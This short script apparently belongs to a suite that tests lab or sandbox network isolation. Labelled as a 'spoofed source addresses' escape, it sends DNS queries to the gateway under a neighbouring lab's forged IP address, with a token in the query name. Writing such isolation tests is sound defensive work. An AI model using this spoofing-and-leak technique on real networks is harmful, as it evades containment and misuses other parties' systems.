# Category: spoofed source addresses
# Escape: asks the resolver in another lab's name, so that the engine carries the answer there.
# Sign: neighbour
gateway=$(gateway_mac) packets <<'PYTHON'
for port in (53, 4000): frames(ipv4(env["NEIGHBOUR"], env["OWN_GATEWAY"], 17, udp(port, 53, question(token + b".example.org"))), macs=[env["gateway"]])
PYTHON
